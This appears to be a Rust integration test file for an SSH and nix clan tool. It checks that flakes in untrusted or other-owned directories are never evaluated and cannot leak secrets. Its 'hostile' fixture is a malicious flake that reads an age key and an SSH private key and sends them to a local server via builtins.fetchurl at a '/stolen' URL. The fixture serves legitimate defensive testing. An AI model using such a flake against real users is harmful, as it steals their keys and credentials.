//! Whose clan is used, and what it can do to whoever uses it: flakes of strangers
//! evaluated by the real nix, beside git(1) and sudo(8)'s rule, with the real sshd.
//! Needs root, to make files that belong to somebody else.

use std::fs;
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use crate::harness::{BINARY, Home, Run, Server, run, sshd, start, wait};

const IP: &str = "127.0.0.1";
/// `nobody` of Debian.
const NOBODY: u32 = 65534;
const SECRET: &str = "AGE-SECRET-KEY-TOP";

/// A nix that notes what it is started with and hands on to the real one.
fn noting_nix(home: &Home) {
    let dir = home.dir.path().display();
    let script = format!(
        "#!/bin/sh\necho \"$@\" >> {dir}/nix.args\nenv >> {dir}/nix.env\nexec /usr/bin/nix \"$@\"\n"
    );
    home.script("bin/nix", script);
}

fn env(home: &Home) -> Vec<(String, String)> {
    let path = format!("{}:/usr/bin:/bin", home.path("bin").display());
    let mut all = vec![("PATH".to_owned(), path)];
    let secrets = ["AGE_KEY", "SOPS_AGE_KEY", "PASSAGE_X", "CLAN_CONNECT_X", "MY_TOKEN"];
    all.extend(secrets.map(|name| (name.to_owned(), SECRET.to_owned())));
    all
}

/// Our binary, started in a directory of this home.
fn inside(home: &Home, dir: &str, args: &[&str]) -> Command {
    let mut command = home.command(args);
    command.current_dir(home.path(dir)).envs(env(home));
    command
}

fn run_in(home: &Home, dir: &str, args: &[&str]) -> Run {
    Run::of(wait(start(&mut inside(home, dir, args), "util-linux")))
}

fn ssh_in(home: &Home, dir: &str, args: &[&str]) -> Run {
    run_in(home, dir, &[&["openssh", "-oBatchMode=yes", "-oConnectTimeout=2"], args].concat())
}

/// What a shell that completes `ssh ` in a directory is told.
fn completed(home: &Home, dir: &str) -> String {
    let mut command = inside(home, dir, &["--", "clan-connect", "ssh", ""]);
    command.envs([("COMPLETE", "bash"), ("_CLAP_COMPLETE_INDEX", "2"), ("_CLAP_IFS", "\n")]);
    Run::of(wait(start(&mut command, "util-linux"))).text()
}

fn own(path: &Path, uid: u32) {
    std::os::unix::fs::chown(path, Some(uid), Some(uid)).unwrap();
}

fn mode(path: &Path, mode: u32) {
    fs::set_permissions(path, fs::Permissions::from_mode(mode)).unwrap();
}

/// A web server that counts who comes.
struct Web {
    port: u16,
    visits: Arc<AtomicUsize>,
}

impl Web {
    fn new() -> Self {
        let listener = TcpListener::bind((IP, 0)).unwrap();
        let port = listener.local_addr().unwrap().port();
        let visits = Arc::new(AtomicUsize::new(0));
        let count = visits.clone();
        std::thread::spawn(move || {
            for _ in listener.incoming() {
                count.fetch_add(1, Ordering::SeqCst);
            }
        });
        Self { port, visits }
    }

    fn visits(&self) -> usize {
        self.visits.load(Ordering::SeqCst)
    }
}

/// What a stranger would like to have evaluated.
fn hostile(web: &Web) -> String {
    let port = web.port;
    format!(
        r#"{{
  nixConfig.extra-substituters = "http://{IP}:{port}/";
  outputs = _: let
    age = builtins.getEnv "AGE_KEY";
    key = builtins.readFile (builtins.getEnv "HOME" + "/.ssh/id_fake");
    sent = builtins.readFile (builtins.fetchurl "http://{IP}:{port}/stolen?${{age}}");
  in {{
    clan.exports = {{
      harmless = {{ priority = 1; peers.m.host.plain = "{IP}"; peers.m.port = 1; }};
      told = {{ priority = 2; peers.m.host.plain = "x${{age}}${{builtins.getEnv "HOME"}}.invalid"; }};
      read = builtins.seq key {{ }};
      fetched = builtins.seq sent {{ }};
    }};
  }};
}}
"#
    )
}

#[test]
fn a_checkout_of_a_stranger_reads_nothing_and_sends_nothing() {
    println!("{}", run("nix", &["--version"], "nix-bin"));
    let home = Home::new();
    noting_nix(&home);
    let web = Web::new();
    home.write("home/.ssh/id_fake", "PRIVATE KEY");
    home.write("evil/flake.nix", hostile(&web));
    // In the place of ssh(1) it is not even looked at, nor is a word said of it.
    let done = ssh_in(&home, "evil", &["somehost", "true"]).exits(255);
    assert_eq!(done.stderr.lines().count(), 1, "{}", done.stderr);
    let done = ssh_in(&home, "evil", &["-v", "somehost", "true"]).exits(255);
    done.says(&["ssh uses only a clan that is named or allowed", "clan-connect trust-clan"]);
    // But where it has a machine of that name: whoever types that one means it.
    home.write("evil/machines/known/configuration.nix", "");
    let known = ssh_in(&home, "evil", &["known", "true"]).exits(255);
    known.says(&["ssh uses only a clan that is named or allowed", "clan-connect trust-clan"]);
    let mut git = Command::new("git");
    git.args(["ls-remote", "somehost:repo"]).current_dir(home.path("evil")).env_clear();
    git.envs(env(&home)).env("HOME", home.path("home"));
    git.env("GIT_SSH_COMMAND", format!("{BINARY} openssh -oBatchMode=yes"));
    git.stdout(std::process::Stdio::piped()).stderr(std::process::Stdio::piped());
    let done = Run::of(wait(start(&mut git, "git")));
    assert!(done.stderr.contains("ould not resolve"), "{}", done.stderr);
    assert!(!completed(&home, "evil").contains("somehost"));
    assert_eq!(home.read("nix.args"), "", "nix was started");
    // Our own commands ask nix, which sees the flake and nothing else.
    run_in(&home, "evil", &["ssh", "m", "-c", "true"]).exits(255);
    let told = |options: &[&str]| {
        let args = [options, &["select", "clan.exports.told.peers.m.host.plain"]].concat();
        run_in(&home, "evil", &args).exits(0).text()
    };
    assert_eq!(told(&[]), "\"x.invalid\"\n");
    run_in(&home, "evil", &["select", "outPath"]).exits(0);
    for args in [["select", "clan.exports.fetched"], ["select", "clan.exports.read"]] {
        assert_ne!(run_in(&home, "evil", &args).code, Some(0));
    }
    assert_eq!(web.visits(), 0);
    let (args, vars) = (home.read("nix.args"), home.read("nix.env"));
    assert!(args.contains("eval") && !args.contains("--impure"), "{args}");
    assert!(vars.contains("HOME=") && !vars.contains(SECRET), "{vars}");
    // Only when the user says so, and no secret then either.
    let impure = told(&["--impure"]);
    assert_eq!(impure, format!("\"x{}.invalid\"\n", home.path("home").display()));
    assert!(!home.read("nix.env").contains(SECRET));
    assert!(home.read("nix.args").contains("--impure"));
    // What that found is not believed the next time.
    assert_eq!(told(&[]), "\"x.invalid\"\n");
}

#[test]
fn a_flake_that_another_user_put_into_a_parent_directory_is_not_touched() {
    let home = Home::new();
    noting_nix(&home);
    let web = Web::new();
    mode(home.dir.path(), 0o755);
    home.write("shared/mine/work/notes", "");
    mode(&home.path("shared"), 0o1777);
    own(&home.write("shared/flake.nix", hostile(&web)), NOBODY);
    let here = "shared/mine/work";
    let done = ssh_in(&home, here, &["myserver", "true"]).exits(255);
    assert_eq!(done.stderr.lines().count(), 1, "{}", done.stderr);
    // Our own commands say whose it is, instead of walking on.
    let exports = home.write("exports.json", "{}");
    let exports = exports.to_str().unwrap();
    for args in [
        &["network", "list"][..],
        &["ssh", "m", "-c", "true"],
        &["vars", "list", "m"],
        &["select", "x"],
        &["exports", "snapshot"],
        &["--exports", exports, "vars", "get", "m", "a/b"],
    ] {
        let done = run_in(&home, here, args);
        assert_ne!(done.code, Some(0), "{args:?}");
        done.says(&["shared", "is not used: ", "can be written by everybody", "trust-clan"]);
    }
    assert_eq!(completed(&home, here).find("myserver"), None);
    // A directory of one's own, too, when what is in it is not.
    mode(&home.path("shared"), 0o755);
    let done = run_in(&home, here, &["network", "list"]).exits(1);
    done.says(&["flake.nix belongs to nobody (uid 65534)", "hint: look at what is in it"]);
    // Naming it is not enough.
    let shared = home.path("shared");
    let done = run_in(&home, ".", &["--flake", "shared", "network", "list"]).exits(1);
    done.says(&["belongs to nobody"]);
    for reference in ["path", "git+file"] {
        let reference = format!("{reference}:{}", shared.display());
        let done = run_in(&home, ".", &["--flake", &reference, "network", "list"]).exits(1);
        done.says(&["belongs to nobody"]);
    }
    let mut command = inside(&home, ".", &["openssh", "myserver"]);
    let done = Run::of(wait(start(command.env("CLAN_DIR", &shared), "util-linux")));
    done.exits(255).says(&["belongs to nobody"]);
    // Where hosts of the internet are meant it does not matter.
    let mut command = inside(&home, ".", &["openssh", "-oBatchMode=yes", "a.invalid"]);
    let done = Run::of(wait(start(command.env("CLAN_DIR", &shared), "util-linux"))).exits(255);
    assert!(!done.stderr.contains("nobody"), "{}", done.stderr);
    assert_eq!((home.read("nix.args"), web.visits()), (String::new(), 0));
    // With sudo(8) one's own clan is not a stranger's.
    own(&home.path("shared"), NOBODY);
    let list = |sudo: Option<u32>| {
        let mut command = inside(&home, here, &["network", "list"]);
        command.envs(sudo.map(|uid| ("SUDO_UID", uid.to_string())));
        Run::of(wait(start(&mut command, "util-linux")))
    };
    list(None).exits(1).says(&["belongs to nobody"]);
    list(Some(1)).exits(1).says(&["belongs to nobody"]);
    list(Some(NOBODY)).exits(0);
    assert_eq!(web.visits(), 0);
}

/// A clan without nix, with one machine at this server, which has this key.
fn clan(home: &Home, dir: &str, machine: &str, server: &Server, key: &str) {
    home.write(&format!("{dir}/.clan-flake"), "");
    let port = server.port();
    let key = key.trim();
    let json = format!(
        r#"{{"clan_connect_snapshot": 1, "machines": {{"{machine}": {{"target_host":
        "root@{IP}:{port}", "host_keys": ["{key}"]}}}}, "exports": {{}}}}"#
    );
    home.write(&format!("{dir}/clan-connect.json"), json);
}

fn host_key(home: &Home, server: &Server) -> String {
    home.read(&format!("sshd-{}/host_key.pub", server.port()))
}

#[test]
fn a_snapshot_in_a_checkout_redirects_nobody() {
    let home = Home::new();
    let own_key = home.default_key();
    let evil = sshd(&home, IP, &own_key, "");
    let evil_key = host_key(&home, &evil);
    home.keygen("good", "ed25519", "");
    let good = home.read("good.pub");
    clan(&home, "repo", "web01", &evil, &evil_key);
    home.write("repo/sub/x", "");
    home.write("home/.ssh/known_hosts", format!("web01 {good}"));
    let sessions = || evil.log().matches("Accepted").count();
    let lost = ssh_in(&home, "repo/sub", &["web01", "true"]).exits(255);
    lost.says(&["Could not resolve", "the clan in ", "is not used: ", "trust-clan"]);
    // A name with a domain is none of a machine.
    let other = ssh_in(&home, "repo/sub", &["web01.invalid", "true"]).exits(255);
    assert!(!other.stderr.contains("trust-clan"), "{}", other.stderr);
    // Standing in it is enough for our own commands, but not against the user's files.
    let ssh = ["ssh", "web01", "-c", "true"];
    let refused = ["REMOTE HOST IDENTIFICATION HAS CHANGED", "the clan here says", "trust-clan"];
    run_in(&home, "repo/sub", &ssh).exits(255).says(&refused);
    let address = format!("[{IP}]:{} {good}", evil.port());
    home.write("home/.ssh/known_hosts", address);
    run_in(&home, "repo/sub", &ssh).exits(255).says(&refused);
    let strict = [&ssh[..2], &["--host-key-check", "strict"]].concat();
    run_in(&home, "repo/sub", &strict).exits(255).says(&refused);
    assert_eq!(sessions(), 0);
    // The clan that was named has the last word.
    run_in(&home, ".", &["--flake", "repo", "ssh", "web01", "-c", "true"]).exits(0);
    run_in(&home, "repo/sub", &["trust-clan"]).exits(0);
    run_in(&home, "repo/sub", &ssh).exits(0);
    run_in(&home, "repo/sub", &["trust-clan", "--revoke"]).exits(0);
    run_in(&home, "repo/sub", &ssh).exits(255);
    // Where they agree, or know nothing, nobody is bothered.
    for known in ["", &format!("web01 {evil_key}"), &format!("other {good}")] {
        home.write("home/.ssh/known_hosts", known);
        run_in(&home, "repo/sub", &ssh).exits(0);
    }
}

#[test]
fn ssh_uses_a_clan_that_was_allowed_as_long_as_it_is_the_same() {
    let home = Home::new();
    let key = home.default_key();
    let server = sshd(&home, IP, &key, "");
    clan(&home, "clan", "m", &server, &host_key(&home, &server));
    home.write("clan/sub/x", "");
    let ssh = || ssh_in(&home, "clan/sub", &["m", "echo", "hi"]);
    let list = || run_in(&home, ".", &["trust-clan", "--list"]).exits(0).text();
    ssh().exits(255);
    assert_eq!(list(), "");
    let done = run_in(&home, "clan/sub", &["trust-clan"]).exits(0);
    assert!(done.text().starts_with("allowed "), "{}", done.text());
    assert_eq!(ssh().exits(0).text(), "hi\n");
    let canonical = home.path("clan").canonicalize().unwrap();
    assert!(list().contains(&*canonical.to_string_lossy()), "{}", list());
    let file = home.path("home/.config/clan-connect/trusted-clans.json");
    assert_eq!(fs::metadata(&file).unwrap().permissions().mode() & 0o777, 0o600);
    assert_eq!(fs::read_dir(file.parent().unwrap()).unwrap().count(), 1);
    // Another directory in its place.
    fs::rename(home.path("clan"), home.path("moved")).unwrap();
    run(
        "cp",
        &["-r", home.path("moved").to_str().unwrap(), home.path("clan").to_str().unwrap()],
        "coreutils",
    );
    let done = ssh_in(&home, "clan/sub", &["-v", "m", "true"]).exits(255);
    done.says(&["it is not the directory that was allowed"]);
    assert!(list().contains("another one is there now"), "{}", list());
    // The same one under another name is another's word, too.
    ssh_in(&home, "moved/sub", &["m", "true"]).exits(255);
    fs::remove_dir_all(home.path("clan")).unwrap();
    fs::rename(home.path("moved"), home.path("clan")).unwrap();
    ssh().exits(0);
    // Another owner; or others who can write what was one's own.
    own(&home.path("clan"), NOBODY);
    ssh().exits(255);
    let done = run_in(&home, "clan", &["ssh", "m", "-c", "true"]).exits(255);
    done.says(&["belongs to nobody", "this was not so when the clan was allowed"]);
    own(&home.path("clan"), 0);
    mode(&home.path("clan"), 0o777);
    ssh().exits(255);
    // Unless the user says that he knows.
    let done = run_in(&home, ".", &["trust-clan", "clan"]).exits(0);
    done.says(&["can be written by everybody"]);
    ssh().exits(0);
    run_in(&home, ".", &["--flake", "clan", "ssh", "m", "-c", "true"]).exits(0);
    mode(&home.path("clan"), 0o755);
    ssh().exits(0);
    run_in(&home, ".", &["trust-clan", "--revoke", "clan"]).exits(0);
    ssh().exits(255);
    run_in(&home, ".", &["trust-clan", "--revoke", "clan"]).exits(1);
    run_in(&home, ".", &["trust-clan", "home"]).exits(1).says(&["is not a clan"]);
    // Named is named, too.
    run_in(&home, ".", &["--flake", "clan", "openssh", "m", "true"]).exits(0);
    let mut command = inside(&home, ".", &["openssh", "m", "true"]);
    Run::of(wait(start(command.env("CLAN_DIR", home.path("clan")), "util-linux"))).exits(0);
}

#[test]
fn a_list_that_others_could_have_written_is_an_error() {
    let home = Home::new();
    let key = home.default_key();
    let server = sshd(&home, IP, &key, "");
    clan(&home, "clan", "m", &server, &host_key(&home, &server));
    run_in(&home, "clan", &["trust-clan"]).exits(0);
    let file = home.path("home/.config/clan-connect/trusted-clans.json");
    let all = [
        &["openssh", "-oBatchMode=yes", "m", "true"][..],
        &["network", "list"],
        &["trust-clan", "--list"],
    ];
    let fails = |words: &[&str]| {
        for args in all {
            let done = run_in(&home, "clan", args);
            assert_ne!(done.code, Some(0), "{args:?}");
            done.says(&["trusted-clans.json"]).says(words);
        }
    };
    own(&file, NOBODY);
    fails(&["is ignored", "belongs to"]);
    own(&file, 0);
    mode(&file, 0o666);
    fails(&["is ignored", "can be written by everybody"]);
    mode(&file, 0o600);
    let text = fs::read_to_string(&file).unwrap();
    fs::write(&file, "{").unwrap();
    fails(&["is not a list of clans"]);
    fs::write(&file, text.replace("\"version\": 1", "\"version\": 7")).unwrap();
    fails(&["has version 7"]);
    fs::write(&file, text).unwrap();
    run_in(&home, "clan", all[0]).exits(0);
    // It is not asked where no clan is.
    own(&file, NOBODY);
    let alone = ssh_in(&home, "home", &["m", "true"]).exits(255).says(&["Could not resolve"]);
    assert!(!alone.stderr.contains("hint:"), "{}", alone.stderr);
}

#[test]
fn a_reference_has_the_keys_and_vars_that_its_directory_has() {
    let home = Home::new();
    noting_nix(&home);
    let key = home.default_key();
    let server = sshd(&home, IP, &key, "");
    home.keygen("other", "ed25519", "");
    let (right, wrong) = (host_key(&home, &server), home.read("other.pub"));
    let port = server.port();
    let flake = format!(
        r#"{{ outputs = _: {{ clan.exports.net = {{ priority = 5;
          peers.m = {{ host.var = {{ generator = "net"; file = "host"; machine = "m"; }};
                      port = {port}; }}; }}; }}; }}"#
    );
    home.write("clan/flake.nix", flake);
    let of_m = |name: &str, value: &str| {
        home.write(&format!("clan/vars/per-machine/m/{name}/value"), value);
    };
    of_m("net/host", IP);
    of_m("openssh/ssh.id_ed25519.pub", &wrong);
    let clan = home.path("clan").canonicalize().unwrap();
    let git = |args: &[&str]| {
        let at = clan.to_str().unwrap();
        let author = ["-c", "user.name=a", "-c", "user.email=a@example"];
        run("git", &[&["-C", at], &author[..], args].concat(), "git");
    };
    git(&["init", "-q"]);
    git(&["add", "."]);
    git(&["commit", "-q", "-m", "x"]);
    let places = [
        clan.display().to_string(),
        format!("git+file://{}", clan.display()),
        format!("path:{}", clan.display()),
    ];
    let target = format!("{IP}:{port}");
    let by_target = ["ssh", "m", "--target-host", &target, "-c", "true"];
    let by_network = ["ssh", "m", "-c", "true"];
    let of = |place: &str, args: &[&str]| run_in(&home, ".", &[&["--flake", place], args].concat());
    for place in &places {
        for args in [&by_target[..], &by_network] {
            let done = of(place, args).exits(255);
            done.says(&["REMOTE HOST IDENTIFICATION HAS CHANGED"]);
        }
    }
    assert_eq!(server.log().matches("Accepted").count(), 0);
    of_m("openssh/ssh.id_ed25519.pub", &right);
    git(&["commit", "-q", "-a", "-m", "y"]);
    let listed = of(&places[0], &["vars", "list", "m"]).exits(0).text();
    assert!(listed.contains("net/host"), "{listed}");
    for place in &places {
        assert_eq!(of(place, &["vars", "list", "m"]).exits(0).text(), listed);
        assert_eq!(of(place, &["vars", "get", "m", "net/host"]).exits(0).text(), IP);
        of(place, &by_target).exits(0);
        of(place, &by_network).exits(0);
        let list = of(place, &["network", "trust", "list", "m"]).exits(0);
        assert!(list.text().contains("vars/per-machine/m/openssh"), "{}", list.text());
    }
    // Where it cannot be had there is less than no trust.
    let known = home.read("home/.ssh/known_hosts");
    let without = |args: &[&str]| {
        let args = [&["--flake", &places[1]], args].concat();
        home.run_with_env(&args, &[("PATH", "/nonexistent")])
    };
    for args in [&by_target[..], &by_network, &["vars", "list", "m"]] {
        let done = without(args);
        assert_ne!(done.code, Some(0), "{args:?}");
        done.says(&["only nix can fetch it, and nix was not found"]);
    }
    assert_eq!(home.read("home/.ssh/known_hosts"), known);
    let mut command = inside(&home, ".", &["openssh", "-oBatchMode=yes", "m", "true"]);
    Run::of(wait(start(command.env("CLAN_DIR", &places[1]), "util-linux"))).exits(0);
    of(&places[1], &["exports", "snapshot"]).exits(2).says(&["--output FILE"]);
}

#[test]
fn every_way_in_which_nix_fails_has_its_own_hint() {
    let home = Home::new();
    noting_nix(&home);
    let here = |name: &str| home.path(name).display().to_string();
    home.write("untracked/flake.nix", "{ outputs = _: { clan.exports = { }; }; }");
    home.write("import/flake.nix", "{ outputs = _: { clan.exports = import ./new.nix; }; }");
    home.write("import/new.nix", "{ }");
    for dir in ["untracked", "import"] {
        run("git", &["-C", &here(dir), "init", "-q"], "git");
    }
    run("git", &["-C", &here("import"), "add", "flake.nix"], "git");
    home.write("marked/.clan-flake", "");
    home.write("empty/x", "");
    home.write("syntax/flake.nix", "{ outputs = _: { clan.exports = ");
    home.write(
        "unlocked/flake.nix",
        "{ inputs.x.url = \"http://127.0.0.1:1/x.tar.gz\"; outputs = { x, ... }: { clan.exports = x; }; }",
    );
    let impure = "{ outputs = _: { clan.exports = { a = builtins.readFile /etc/hostname; }; }; }";
    home.write("impure/flake.nix", impure);
    home.write("throws/flake.nix", "{ outputs = _: { clan.exports = throw \"no such var\"; }; }");
    home.write(
        "fetches/flake.nix",
        format!(
            "{{ outputs = _: {{ clan.exports = builtins.readFile (builtins.fetchurl {{ \
             url = \"http://127.0.0.1:1/x\"; sha256 = \"{}\"; }}); }}; }}",
            "0".repeat(52)
        ),
    );
    let reads =
        |file: &str| format!("{{ outputs = _: {{ clan.exports = builtins.readFile {file}; }}; }}");
    home.write("outside/flake.nix", reads("./link/hostname"));
    std::os::unix::fs::symlink("/etc", home.path("outside/link")).unwrap();
    home.write("absent/flake.nix", reads("./modules/absent.nix"));
    home.write("fifo/x", "");
    run("mkfifo", &[&here("fifo/flake.nix")], "coreutils");
    home.write("folder/flake.nix", "{ outputs = _: { }; }");
    fs::create_dir(home.path("folder/flake.lock")).unwrap();
    let unreachable = "git+http://127.0.0.1:1/clan".to_owned();
    for (flake, words) in [
        (here("untracked"), &["cannot evaluate", "git add", "untracked/flake.nix"][..]),
        (here("import"), &["git add", "import/new.nix"]),
        (here("marked"), &["no flake.nix", "holds flake.nix"]),
        (format!("path:{}", here("empty")), &["no flake.nix", "?dir="]),
        (format!("path:{}", here("missing")), &["cannot fetch", "there is no such flake"]),
        (format!("git+file:{}", here("missing")), &["cannot fetch", "there is no such flake"]),
        ("nonsense:a/b".to_owned(), &["cannot fetch", "there is no such flake"]),
        (unreachable, &["cannot fetch", "could not be downloaded"]),
        (here("syntax"), &["syntax error", "correct the file"]),
        (here("unlocked"), &["nix flake lock"]),
        (here("impure"), &["forbidden in pure eval mode", "--impure"]),
        (here("throws"), &["no such var", "clan vars generate"]),
        (here("fetches"), &["cannot evaluate", "could not be downloaded", "snapshot"]),
        (here("outside"), &["cannot evaluate", "forbidden in", "--impure"]),
        (here("absent"), &["cannot evaluate", "is not in the clan", "correct the line"]),
        (here("fifo"), &["flake.nix is not a regular file"]),
        (format!("path:{}", here("fifo")), &["flake.nix is not a regular file"]),
        (here("folder"), &["flake.lock is not a regular file"]),
    ] {
        let done = run_in(&home, ".", &["--flake", &flake, "network", "list"]).exits(1);
        let hints = done.stderr.matches("clan vars generate").count();
        assert_eq!(hints, usize::from(flake.ends_with("throws")), "{flake}: {}", done.stderr);
        assert!(done.stderr.len() < 6000 && !done.stderr.contains('\x1b'), "{}", done.stderr);
        println!("{flake}: {}", done.stderr);
        done.says(words);
    }
    run_in(&home, ".", &["--impure", "--flake", "impure", "select", "clan.exports.a"]).exits(0);
}
